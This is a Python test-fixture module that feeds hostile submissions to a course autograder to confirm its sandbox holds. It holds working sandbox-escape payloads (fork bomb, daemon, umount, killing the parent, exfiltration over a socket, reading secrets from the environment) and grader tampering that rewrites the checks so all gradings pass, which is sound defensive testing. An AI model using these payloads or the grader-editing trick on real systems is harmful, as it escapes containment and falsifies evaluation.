"""Submissions that attack the grader from one answer cell of notebook 04.

Each submission is the solution except for one answer cell, which starts with an attack.
The attacks sit in the three exercises that no other exercise builds on (the others
define functions that later answers call), so each can cost exactly one exercise.
Where the sandbox makes the attack fail, the cell stops there (and would earn its points
if the attack went through, so a broken sandbox fails the test); where the attack is
simply harmless inside the sandbox (signalling the parent, a daemon, a listening
socket), the cell also holds a wrong answer. Either way it must cost exactly that one
exercise, and the harm must not happen: ``Harm`` holds what a test looks at afterwards.

Used by ``test_sandbox.py`` (the command line) and ``test_nbgrader_e2e.py`` (nbgrader).
"""

from __future__ import annotations

import hashlib
import os
import secrets
import socket
from dataclasses import dataclass, field
from pathlib import Path

from notebooks import ROOT
from wrong import wrong_versions

NOTEBOOK = "04_attention"
SECRET_VARIABLE = "AUTOGRADER_TEST_SECRET"
FILE_SIZE_LIMIT = "8M"  # graders of these submissions lower the 1 GB default, so the big file stays small


def _wrong(exercise: str) -> str:
    return next(w.code for w in wrong_versions(NOTEBOOK) if w.exercise == exercise)


@dataclass(frozen=True)
class Attack:
    name: str
    exercise: str  # the answer cell it sits in
    code: str  # a template: {token}, {port}, {secret}
    says: tuple[str, ...]  # one of these is in that exercise's message (none: the wrong answer's own)
    harmless: bool = False  # the sandbox lets it run without effect: the cell also gets a wrong answer
    alone: bool = False  # the code is the whole answer (a dodge of the exercise's rule), not a preamble

    def answer(self, right: str, harm: Harm) -> str:
        attack = self.code.format(token=harm.token, port=harm.port, secret=SECRET_VARIABLE)
        if self.alone:
            return attack
        return attack + "\n" + (_wrong(self.exercise) if self.harmless else right)


DAEMON = """
import os
started, ready = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(ready, b"x")
        os.execv("/bin/sleep", ["sleep", "9{token}"])
    os._exit(0)
os.read(started, 1)  # the daemon exists before this cell goes on
"""

WRITES_OUTSIDE = """
for target in ["../../escaped-{token}.txt", "/tmp/escaped-{token}.txt", "/dev/shm/escaped-{token}.txt"]:
    try:
        open(target, "w").write("written by a submission")
    except OSError as error:
        denied = error
    else:
        raise RuntimeError(f"wrote {{target}}")
raise denied
"""

# Processes until the limit stops it. Spawned, not forked: forking the worker, torch loaded, took 4.8 ms a process
# here (posix_spawn 0.6 ms), several times that on a loaded machine, so 256 forks could outlast the cell's timeout
# and the grader would rightly report the timeout instead of the limit this attack is about. Both count against
# the same limit on processes.
FORK_BOMB = """
import os
while True:
    os.posix_spawn("/bin/sleep", ["sleep", "9{token}"], os.environ)
"""

# Writing where it may not: read-only (uid of the instructor) or not its file (root grading as another uid).
# Unmounting the empty folders laid over /home, /tmp and /run would show what they hide. It takes CAP_SYS_ADMIN,
# which a worker forked into the sandbox's namespaces (autograder/zygote.py) holds until it drops it.
UNMOUNTS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
refused = [folder for folder in ("/home", "/tmp", "/run") if libc.umount2(folder.encode(), 2) != 0]
if len(refused) == 3:
    raise PermissionError(ctypes.get_errno(), "umount: Operation not permitted")
"""

DENIED = ("Read-only file system", "Permission denied")
SDPA, DECODER, CROSS = "scaled_dot_product_attention", "decoder_mask", "cross_attention_mask"

ATTACKS = [
    # The list: what each did to an unsandboxed grader.
    Attack(
        "edits_checks",
        SDPA,
        "import autograder.notebooks.nb04_attention as checks\n"
        "open(checks.__file__, 'a').write('\\nEXERCISES = []  # every later grading passes\\n')",
        DENIED,
    ),
    Attack("writes_outside", DECODER, WRITES_OUTSIDE, DENIED),
    Attack("unmounts_hidden", CROSS, UNMOUNTS, ("Operation not permitted",)),
    Attack(
        "kills_grader",
        CROSS,
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept PermissionError:\n    pass",
        (),
        harmless=True,
    ),
    Attack("leaves_daemon", SDPA, DAEMON, (), harmless=True),
    Attack("allocates_6gb", DECODER, "import torch\nhog = torch.ones(6 * 2**30 // 4)", ("more than 3 GB of memory",)),
    Attack(
        "opens_sockets",
        CROSS,
        "import socket\nserver = socket.create_server(('0.0.0.0', 0))\n"
        "socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'leaked')",
        ("Connection refused",),
    ),
    Attack("reads_environment", SDPA, "import os\nleaked = os.environ['{secret}']", ("KeyError",)),
    # The other limits.
    Attack("fork_bomb", DECODER, FORK_BOMB, ("more than 256 processes or threads",)),
    Attack(
        "writes_huge_file",
        CROSS,
        "with open('huge.bin', 'wb') as f:\n    f.write(bytes(16 * 2**20))",
        ("larger than 8 MB",),
    ),
    # The exercise's rule, dodged by keeping a reference to the forbidden function before any check runs.
    Attack(
        "keeps_forbidden_reference",
        SDPA,
        "attend = F.scaled_dot_product_attention\n\n\ndef scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    return torch.nan_to_num(attend(q, k, v, attn_mask=mask))\n",
        ("this exercise's rule is: use your attention_weights",),
        alone=True,
    ),
]

COURSE_FILES = ("autograder", "coursetools", "solutions", "course", "data", "nbgrader_config.py")


def checksum(*paths: Path) -> str:
    """One digest of every file under ``paths`` (names and contents)."""
    digest = hashlib.sha256()
    for path in paths:
        files = sorted(p for p in path.rglob("*") if p.is_file()) if path.is_dir() else [path]
        for file in files:
            if "__pycache__" not in file.parts:
                digest.update(str(file).encode() + b"\0" + file.read_bytes())
    return digest.hexdigest()


def course_checksum() -> str:
    return checksum(*(ROOT / name for name in COURSE_FILES))


def sleepers(token: str) -> list[int]:
    """Processes left running by the daemon and fork-bomb attacks (they exec ``sleep 9<token>``)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "cmdline").read_bytes() == f"sleep\0009{token}\0".encode():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


@dataclass
class Harm:
    """What the attacks would leave behind if they worked; ``check()`` after grading says what did."""

    folder: Path  # where '../../escaped-*' lands: two folders above the graded notebook
    token: str = field(default_factory=lambda: str(secrets.randbelow(10**9)))
    server: socket.socket = field(default_factory=lambda: socket.create_server(("127.0.0.1", 0)))
    before: str = field(default_factory=course_checksum)

    @property
    def port(self) -> int:
        return self.server.getsockname()[1]

    def environment(self) -> dict[str, str]:
        """The grader's environment, with a secret that student code must not see."""
        return dict(os.environ, **{SECRET_VARIABLE: self.token})

    def check(self) -> list[str]:
        harms = []
        for escaped in (self.folder / f"escaped-{self.token}.txt", Path(f"/tmp/escaped-{self.token}.txt")):
            if escaped.exists():
                harms.append(f"wrote {escaped}")
        if course_checksum() != self.before:
            harms.append("changed the course files")
        if sleepers(self.token):
            harms.append(f"left processes running: {sleepers(self.token)}")
        self.server.setblocking(False)
        try:
            self.server.accept()
            harms.append("reached a server outside the sandbox")
        except BlockingIOError:
            pass
        self.server.close()
        return harms


# Not attacks on notebook 04's grader, but on the worker's start and restart (notebook 01's class, test_sandbox.py):
# a cell that hangs when the grader replays it after a restart, and modules beside the notebook that end the
# worker if it imports them as it starts (before it has given up root and set its limits). The hang sleeps: the
# timeout is wall-clock time either way, and a busy loop (notebook 01's loops_forever) would take a core from the
# suite's other worker for as long.
REPLAYS_DIFFERENTLY = """import pathlib, time
_marker = pathlib.Path("ran-once.marker")  # in the submission's scratch folder, which a replay reuses
if _marker.exists():
    time.sleep(3600)
_marker.write_text("this cell ran")
"""
SHADOW = "import os, sys\nsys.stderr.write('grader imported the student file {name}\\n')\nos._exit(7)\n"
SHADOWED = ("json", "traitlets", "pickle", "IPython/__init__", "autograder/__init__", "torch/__init__")
